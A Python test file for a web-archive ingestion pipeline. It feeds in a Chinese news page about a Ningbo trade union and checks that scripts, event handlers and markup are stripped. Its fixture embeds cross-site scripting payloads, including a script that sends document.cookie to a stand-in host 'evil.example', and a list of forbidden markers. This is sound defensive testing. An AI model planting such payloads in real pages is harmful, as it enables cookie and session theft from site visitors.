"""HTML from pages is stored as text: scripts, event handlers and markup never reach a document."""

from __future__ import annotations

import pytest

from archive.ingest import ingest
from archive.io import elastic

pytestmark = pytest.mark.es

HOSTILE_PAGE = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>宁波市总工会送温暖</title>
<script>document.location='http://evil.example/steal?c='+document.cookie</script>
<style>body{background:url(javascript:alert(1))}</style></head>
<body onload="alert('onload')">
<h1>宁波市总工会送温暖</h1>
<p>本报讯 1月18日，宁波市总工会为500名一线职工送上慰问品。<img src="x.png" onerror="alert('onerror')"></p>
<p>活动中，工会干部走访快递网点，<a href="javascript:alert('link')">了解</a>快递小哥的需求。<script>alert('inline')</script></p>
<iframe src="http://evil.example/frame"></iframe>
</body></html>
"""

FORBIDDEN = ("<script", "alert(", "onerror", "onload", "javascript:", "document.cookie", "<img", "<iframe",
             "evil.example", "<p>", "background:url")


def stored_text(document: dict) -> str:
    fields = ("title", "kicker", "subtitle", "byline", "body", "body_simplified", "body_words", "title_words")
    return "\n".join(str(document.get(name) or "") for name in fields) + "\n".join(document.get("headings") or [])


def test_a_page_with_scripts_and_handlers_is_stored_as_plain_text(es, fresh_archive, pipeline, tmp_path):
    page = tmp_path / "hostile.html"
    page.write_text(HOSTILE_PAGE, encoding="utf-8")
    report = ingest([str(page)], pipeline=pipeline, es=es, settings=fresh_archive)
    assert report.failed == 0 and report.created >= 1
    documents = list(elastic.scan_documents(es, fresh_archive.alias))
    assert documents
    text = "\n".join(stored_text(doc) for doc in documents)
    assert "宁波市总工会为500名一线职工送上慰问品" in text
    assert "快递小哥" in text
    assert [marker for marker in FORBIDDEN if marker in text] == []
